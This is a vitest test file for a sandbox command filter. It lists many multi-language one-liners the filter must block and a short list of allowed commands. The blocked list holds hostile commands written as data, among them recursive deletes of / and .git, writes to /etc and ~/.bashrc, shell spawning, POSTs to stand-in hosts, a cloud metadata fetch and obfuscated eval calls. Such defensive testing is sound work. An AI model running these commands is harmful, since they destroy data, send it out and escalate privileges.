import { expect, test } from "vitest";
import { slippedThrough, wronglyBlocked } from "./calls.ts";

/** One-liners of other languages that reach out of themselves. Nothing in here is ever run. */
const reaching = String.raw`
python3 -c "import os; os.remove('../x')"
python3 -c "import os; [os.remove(f) for f in os.listdir('.')]"
python3 -c "import shutil; shutil.rmtree('.git')"
python3 -c "from os import remove as r; r('/etc/x')"
python3 -c "import os; getattr(os,'sys'+'tem')('id')"
python3 -c "import pathlib; pathlib.Path('/etc/x').write_text('x')"
python3 -c "import pathlib; pathlib.Path('..').joinpath('x').unlink()"
python3 -c "open('/etc/x','w')"
python3 -c "open(f'/etc/{1}','w')"
python3 -c "f=open; f('/etc/x','w')"
python3 -c "import json; json.dump({}, open('/etc/x','w'))"
python3 -c "print('x', file=open('/etc/x','w'))"
python3 -c "import os; os.execvp('sh',['sh'])"
python3 -c "import pty; pty.spawn('sh')"
python3 -c "import subprocess as s; s.run('sudo id', shell=True)"
python3 -c "import subprocess; subprocess.run(['rm','-rf','/'])"
python3 -c "import subprocess; subprocess.run(['git','push','-f'])"
python3 -c "import subprocess; c=['rm','-rf','/']; subprocess.run(c)"
python3 -c "import subprocess; subprocess.run(['git','status']); subprocess.run(x)"
python3 -c "import os; os.kill(-1,9)"
python3 -c "import os; os.setuid(0)"
python3 -c "import os; os.symlink('/etc','x')"
python3 -c "import os; os.chdir('/'); os.remove('etc/x')"
python3 -c "import requests; requests.post('https://x.example.com', data='x')"
python3 -c "import socket; socket.create_connection(('1.2.3.4',9))"
python3 -c "exec('import os')"
python3 -c "__import__('os').system('id')"
python3 -c "import ctypes"
python3 -c "import builtins; builtins.eval('1')"
python3 -c "import zipfile; zipfile.ZipFile('a.zip').extractall('/etc')"
python3 -c "import urllib.request as u; u.urlretrieve('https://x.example.com/a','/etc/x')"
python3 -c "import tempfile,os; os.rmdir('/x')"
python3 -c "import glob,os; [os.unlink(x) for x in glob.glob('/tmp/*')]"
python3 -c "import sqlite3; sqlite3.connect('a').executescript('drop table x')"
python3 -c "import os; os.truncate('/etc/x',0)"
python3 -c "import fileinput; [print(l) for l in fileinput.input('/etc/x', inplace=True)]"
python3 -c "import logging; logging.basicConfig(filename='/etc/x')"
python3 -c "import shelve; shelve.open('/etc/x')"
python3 -c "import webbrowser; webbrowser.open('x')"
python3 -c "import importlib; importlib.import_module('os')"
python3 -c "import code; code.interact()"
python3 -c "import runpy; runpy.run_path('/tmp/x.py')"
python3 -m pip uninstall -y pip --break-system-packages
node -e "require('fs').rmSync('..',{recursive:true})"
node -e "require('fs').rmSync('.git',{recursive:true})"
node -e "const {rmSync:r}=require('fs');r('/etc')"
node -e "require('fs').promises.unlink('/etc/x')"
node -e "import('fs').then(f=>f.unlinkSync('/etc/x'))"
node -e "require('f'+'s').unlinkSync('/etc/x')"
node -e "const c=require('child_process');c.execSync('sudo id')"
node -e "const {execSync:e}=require('child_process');e('sudo id')"
node -e "require('child_process').spawn('sh',['-c','sudo id'])"
node -e "require('child_process').execSync('git status');require('child_process').execSync(process.argv[1])"
node -e "new Function('x')()"
node -e "eval('x')"
node -e "[].constructor.constructor('x')()"
node -e "globalThis['ev'+'al']('x')"
node -e "process.kill(1)"
node -e "process.kill(-1)"
node -e "require('net').connect(9,'1.2.3.4')"
node -e "fetch('https://x.example.com',{method:'POST'})"
node -e "fetch('http://169.254.169.254/')"
node -e "require('http').createServer().listen(80)"
node -e "require('fs').createWriteStream('/etc/x')"
node -e "require('fs').writeFileSync(process.env.HOME+'/.bashrc','x')"
node -e "require('fs').symlinkSync('/etc','x')"
node -e "require('fs').chmodSync('x',0o4755)"
node -e "require('fs').cpSync('/','x')"
node -e "require('fs-extra').removeSync('/etc')"
node -e "require('rimraf').sync('/etc')"
node -e "require('del')(['/etc'])"
node -e "require('shelljs').rm('-rf','/')"
node -e "require('execa').commandSync('sudo id')"
node -e "require('zx/globals')"
node --require /tmp/x.js a.js
node --import data:text/javascript,x a.js
node --eval="require('child_process').execSync('sudo id')"
node <<< "require('child_process').execSync('sudo id')"
echo "require('child_process').execSync('sudo id')" | node
perl -e 'unlink "/etc/x"'
perl -e 'system "sudo id"'
perl -e 'exec "sudo id"'
perl -e 'BACKTICKsudo idBACKTICK'
perl -e 'qx(sudo id)'
perl -e 'open(F,">/etc/x")'
perl -e 'open F, "| sh"'
perl -e 'eval "x"'
perl -pe 's/x/BACKTICKidBACKTICK/e' a
perl -e 'rmdir "/etc"'
perl -e 'kill 9, -1'
perl -e 'fork'
perl -e 'do "/tmp/x.pl"'
perl -e 'require "/tmp/x.pl"'
perl -i -pe 's/a/b/' /etc/x
perl -pi.bak -e 's/a/b/' ~/x
perl -e 'chdir "/"; unlink "etc/x"'
perl -e 'symlink "/etc","x"'
perl -e 'use File::Path; rmtree("/etc")'
ruby -e 'File.delete("/etc/x")'
ruby -e 'FileUtils.rm_rf("/etc")'
ruby -e 'Dir.rmdir("/etc")'
ruby -e 'system("sudo id")'
ruby -e '%x(sudo id)'
ruby -e 'IO.popen("sudo id")'
ruby -e 'Process.spawn("sudo id")'
ruby -e 'Kernel.exec("sudo id")'
ruby -e 'open("|sudo id")'
ruby -e 'eval("x")'
ruby -e 'File.open("/etc/x","w")'
ruby -e 'File.write("/etc/x","y")'
ruby -e 'IO.write("/etc/x","y")'
ruby -e 'require "net/http"; Net::HTTP.post(URI("https://x"),"y")'
ruby -e 'File.rename("/a","/b")'
ruby -e 'File.symlink("/etc","x")'
ruby -e 'Pathname("/etc/x").delete'
ruby -e 'send(:system,"id")'
ruby -i -pe 'x' /etc/x
php -r 'unlink("/etc/x");'
php -r 'system("sudo id");'
php -r 'BACKTICKsudo idBACKTICK;'
php -r 'file_put_contents("/etc/x","");'
php -r 'eval("x");'
php -r '$f="system";$f("id");'
php -r 'rename("/a","/b");'
php -r 'mkdir("/etc/x");'
php -r 'copy("/a","/etc/b");'
php -r 'mail("a","b","c");'
php -r 'include "https://x.example.com/a";'
php -r 'fopen("/etc/x","w");'
php -r 'array_map("system",["id"]);'
php -r 'preg_replace_callback("/x/","system","x");'
php -r 'posix_kill(1,9);'
php -r 'chmod("/etc/x",0777);'
lua -e 'os.remove("/etc/x")'
lua -e 'io.open("/etc/x","w")'
lua -e 'os.rename("/a","/b")'
lua -e 'load("x")()'
Rscript -e 'system("sudo id")'
Rscript -e 'file.remove("/etc/x")'
Rscript -e 'write("x","/etc/x")'
Rscript -e 'eval(parse(text="x"))'
julia -e 'rm("/etc/x")'
julia -e 'run(BACKTICKsudo idBACKTICK)'
deno eval "Deno.removeSync('/etc/x')"
deno eval "Deno.writeTextFileSync('/etc/x','y')"
deno eval "new Deno.Command('sudo').outputSync()"
bun -e "await Bun.write('/etc/x','y')"
bun -e "Bun.spawn(['sudo','id'])"
bun -e 'await Bun.$BACKTICKsudo idBACKTICK'
awk 'BEGIN{print "x" > "/etc/x"}'
awk 'BEGIN{print "sudo id" | "sh"}'
awk 'BEGIN{"sudo id" | getline}'
awk -f /tmp/x.awk a
gawk -i inplace '{print}' /etc/x
gawk '@load "filefuncs"; BEGIN{}'
awk 'BEGIN{f="/etc/x"; print "x" > f}'
awk '{close("x"); system($1)}' a
sed -i 's/a/b/w /etc/x' a
sed 's/a/b/;w /etc/x' a
sed -n '/x/{w /etc/x
sed --in-place=/etc/x 's/a/b/' a
tclsh <<< 'exec sudo id'
groovy -e '"sudo id".execute()'
scala -e 'sys.process.Process("id").!'
elixir -e 'System.cmd("sudo",["id"])'
erl -eval 'os:cmd("sudo id")'
guile -c '(system "sudo id")'
racket -e '(system "sudo id")'
ghc -e 'System.Process.callCommand "id"'
osascript -e 'do shell script "id"'
java -jar /tmp/x.jar
java -cp /tmp X
gcc -x c - <<< 'int main(){system("id");}' -o x && ./x
yq -i '.a=1' /etc/x
xmllint --output /etc/x a
`
  .trim()
  .replaceAll("BACKTICK", "`")
  .split("\n");

const harmless = [
  "python3 -c 'import sys; print(sys.path)'",
  "python3 -c \"import os; print(os.environ.get('HOME'))\"",
  "python3 -c \"open('out.txt','w').write('x' + str(1))\"",
  "python3 -c \"import subprocess; print(subprocess.run(['git','status'],capture_output=True).stdout)\"",
  "python3 -c \"import pathlib; pathlib.Path('src/a.txt').write_text('x')\"",
  'python3 -c "a=[]; a.append(1); a.remove(1); print({}.copy())"',
  "python3 -c \"from collections import Counter; print(Counter('abc'))\"",
  'node -e \'const fs=require("fs");fs.writeFileSync("a.json",JSON.stringify({a:1})+"\\n")\'',
  "node -e \"console.log(require('child_process').execSync('git rev-parse HEAD').toString())\"",
  "node -e \"fetch('https://api.example.org/x').then(r=>r.json()).then(console.log)\"",
  "node -p 'Object.assign({}, process.versions)'",
  "perl -ne 'print if /eval|system/' lib/*.pm",
  "perl -pi -e 's/foo/bar/' src/*.ts",
  "ruby -rjson -e 'puts JSON.parse(STDIN.read).size'",
  "php -r 'echo PHP_VERSION;'",
  "lua -e 'print(1)'",
  "elixir -e 'IO.puts(Enum.sum(1..10))'",
  "Rscript -e 'mean(1:10)'",
];

test("code that starts, writes outside, connects, computes code or cannot be followed is not allowed", () => {
  expect(slippedThrough(reaching)).toEqual([]);
});

test("code that only calculates, reads, or changes plain files of the workspace is allowed", () => {
  expect(wronglyBlocked(harmless)).toEqual([]);
});
